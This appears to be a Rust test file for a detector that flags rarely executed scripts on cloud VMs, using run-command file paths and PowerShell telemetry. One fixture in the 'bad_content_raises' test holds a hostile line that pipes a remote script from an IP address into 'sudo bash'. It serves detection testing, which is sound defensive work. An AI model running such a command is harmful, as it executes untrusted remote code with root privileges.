//! Section 18.

use super::{Sensor, Table, json};

const UNIQUE: &str = "unique-script";

fn scripts(texts: &[&str]) -> Table {
    let mut table = Table::default();
    for (at, text) in texts.iter().enumerate() {
        let path = format!("web01/var/lib/waagent/run-command/download/{at}/script.sh");
        table = table.file(&path, text);
    }
    table
}

#[test]
fn one_of_six() {
    let table = scripts(&["a\n", "a\n", "a\n", "b\n", "b\n", "c\n"]);
    let found = table.finds(UNIQUE);
    assert_eq!(found.len(), 1);
    let values = &found[0].values;
    assert_eq!(
        (&values["prevalence"], &values["total"], &values["kind"]),
        (&json!(16.67), &json!(6), &json!("norm"))
    );
    assert_eq!(
        values["fingerprint"],
        crate::script::fingerprint::normalised(b"c\n")
    );
    assert_eq!(found[0].severity.word(), "low");
}

#[test]
fn too_few_say_nothing() {
    let table = scripts(&["a\n", "b\n", "c\n", "d\n"]);
    assert!(table.finds(UNIQUE).is_empty());
    assert_eq!(
        table.searched(UNIQUE),
        (false, Some("not-assessed: the script of 4 executions is known, and 5 are needed to call one rare".to_owned()))
    );
    assert_eq!(
        scripts(&["a\n", "b\n", "c\n", "d\n", "e\n"])
            .finds(UNIQUE)
            .len(),
        5
    );
    assert_eq!(
        table
            .set("unique-script.least_executions", "4")
            .finds(UNIQUE)
            .len(),
        4
    );
}

#[test]
fn line_ends_and_comments_make_no_other_script() {
    let table = scripts(&[
        "a\n",
        "a\n",
        "a\n",
        "id\nwhoami\n",
        "id  \r\n\r\n# note\r\nwhoami",
    ]);
    assert!(table.finds(UNIQUE).is_empty());
}

#[test]
fn bad_content_raises() {
    let table = scripts(&[
        "a\n",
        "a\n",
        "b\n",
        "b\n",
        "#!/bin/sh\ncurl -fsSL http://203.0.113.7/i.sh | sudo bash\n",
    ]);
    assert_eq!(table.severities(UNIQUE), ["medium"]);
}

#[test]
fn a_scope_of_its_own() {
    let mut table = scripts(&["a\n", "a\n", "b\n", "b\n", "c\n"]);
    table = table.file(
        "web02/var/lib/waagent/run-command/download/0/script.sh",
        "c\n",
    );
    assert!(table.finds(UNIQUE).is_empty());
    let by_vm = table.set("unique-script.scope", "vm");
    assert_eq!(by_vm.finds(UNIQUE).len(), 1);
    assert!(
        by_vm
            .searched(UNIQUE)
            .1
            .expect("the other VM")
            .contains("not-assessed in 1 scope with fewer than 5 known scripts")
    );
}

/// What a script called, where nothing else is known of it.
fn called(number: usize, commands: &[&str]) -> Vec<serde_json::Value> {
    let rows = commands.iter().enumerate().map(|(at, command)| {
        json!({
            "Timestamp": format!("2024-05-01T10:{number:02}:{at:02}Z"), "DeviceName": "web01", "ActionType": "PowerShellCommand",
            "AdditionalFields": json!({ "Command": command }).to_string(),
            "InitiatingProcessFileName": "powershell.exe",
            "InitiatingProcessCommandLine": format!("powershell  -ExecutionPolicy Unrestricted -File script{number}.ps1"),
        })
    });
    rows.collect()
}

#[test]
fn what_a_script_called_tells_it_where_nothing_else_does() {
    let mut sensor = Sensor::default();
    for number in 0..4 {
        for row in called(
            number,
            &["Get-Process", "write-output", "Get-Process", "script0.ps1"],
        ) {
            sensor = sensor.row(row);
        }
    }
    for row in called(4, &["Get-Process", "Stop-Service"]) {
        sensor = sensor.row(row);
    }
    // A loop makes no other script, and the script's own name is no command.
    let found = sensor.finds(UNIQUE);
    assert_eq!(found.len(), 1);
    assert_eq!(
        (&found[0].values["kind"], found[0].confidence.word()),
        (&json!("behaviour"), "medium")
    );
    // The published query keeps repetitions: the third run differs by one more call.
    let mut other = sensor.clone();
    for row in called(3, &["Get-Process"]) {
        other = other.row(json!({ "Timestamp": "2024-05-01T10:03:30Z", "DeviceName": row["DeviceName"], "ActionType": row["ActionType"],
            "AdditionalFields": row["AdditionalFields"], "InitiatingProcessFileName": row["InitiatingProcessFileName"],
            "InitiatingProcessCommandLine": row["InitiatingProcessCommandLine"] }));
    }
    assert_eq!(other.finds(UNIQUE).len(), 1);
    assert_eq!(
        other
            .set("unique-script.published", "yes")
            .finds(UNIQUE)
            .len(),
        2
    );
}

#[test]
fn the_sensors_hash_of_the_file_counts_as_bytes() {
    let mut sensor = Sensor::default();
    for (at, hash) in ["aa", "aa", "aa", "bb", "bb", "cc"].into_iter().enumerate() {
        sensor = sensor
            .cloud(&format!(
                "2024-05-01T1{at}:00:00 run alice 52.1.2.3 web01 end=+40"
            ))
            .file(&format!("1{at}:00:20 web01 script{at}.ps1 120 {hash}"));
    }
    let found = sensor.finds(UNIQUE);
    assert_eq!(found.len(), 1);
    assert_eq!(
        (&found[0].values["kind"], &found[0].values["fingerprint"]),
        (&json!("raw"), &json!("cc".repeat(32)))
    );
}
